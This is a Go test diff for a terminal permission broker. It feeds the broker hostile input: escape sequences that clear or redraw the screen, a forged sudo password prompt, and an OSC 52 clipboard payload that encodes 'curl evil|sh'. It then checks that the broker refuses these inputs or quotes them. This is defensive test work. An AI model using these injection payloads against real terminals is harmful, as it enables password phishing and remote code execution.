@@ -16,6 +16,7 @@ import (
 
 	"ollie/broker"
 	"ollie/broker/desktop"
+	"ollie/internal/termsafe"
 )
 
 // TestTerminalBrokerHostile replays issue 11's phishing: a host's request
@@ -60,7 +61,8 @@ func TestTerminalBrokerHostile(t *testing.T) {
 		Host:       "h5\x1b[2J", // claimed; the connection says h4
 		Session:    "s\x1b]0;h5: all good\a",
 		Agent:      "ops\u009b2J", // JSON carries only UTF-8: the lone byte 0x9b arrives as U+FFFD
-		Tool:       "fix_nginx" + redraw + "sudo password for h5: ",
+		AgentName:  "fixer" + redraw + "sudo password for h5: ",
+		Tool:       "fix_nginx",
 		Executable: "/usr/sbin/nginx\x1b]52;c;Y3VybCBldmlsfHNo\x1b\\",
 		Args:       json.RawMessage(`{"x":"\u009b2J\u001b[1A"}`),
 		Cwd:        "/\n\nollie: h5 asks\x1bP+q544e\x1b\\",
@@ -72,6 +74,16 @@ func TestTerminalBrokerHostile(t *testing.T) {
 		err error
 	}
 	done := make(chan asked, 1)
+	// A tool named with a sentence is refused for its name, the reason
+	// sent back, and nothing shown.
+	bad := *req
+	bad.Tool = "fix_nginx" + redraw + "sudo password for h5: "
+	if _, ans, err := broker.Ask(ctx, c, &bad); err != nil || ans.Decision != broker.Deny || !strings.Contains(ans.Reason, "is not a tool's name") {
+		t.Errorf("a tool named with a sentence: %+v, %v; want denied for its name", ans, err)
+	}
+	if c, err = net.Dial("unix", filepath.Join(dir, "fwd")); err != nil {
+		t.Fatal(err)
+	}
 	go func() {
 		cv, ans, err := broker.Ask(ctx, c, req)
 		done <- asked{cv, ans, err}
@@ -141,6 +153,11 @@ func TestTerminalBrokerHostile(t *testing.T) {
 		}
 		if strings.HasPrefix(l, "ollie: h5") || strings.HasPrefix(l, "sudo password for h5") {
 			t.Errorf("the host made a line of its own: %q", l)
+		}
+		// The host's words are quoted: outside the quotes, no host is
+		// named but the connection's.
+		if strings.Contains(termsafe.Unquoted(l), "h5") {
+			t.Errorf("a line names h5 outside its quotes: %q", l)
 		}
 	}
 	if pwLines != 2 {
